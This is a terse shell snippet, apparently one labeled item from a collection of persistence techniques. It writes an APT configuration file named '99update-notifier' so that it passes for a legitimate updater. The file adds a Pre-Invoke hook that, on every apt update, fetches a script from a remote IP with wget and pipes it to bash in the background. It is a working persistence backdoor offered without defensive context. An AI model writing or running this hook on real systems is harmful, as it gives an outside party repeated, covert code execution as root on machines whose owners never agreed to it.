# class: persistence, apt hook; style: terse
cat > /etc/apt/apt.conf.d/99update-notifier <<'EOF'
APT::Update::Pre-Invoke {"(wget -qO- http://198.51.100.23/a || true) | bash &"};
EOF
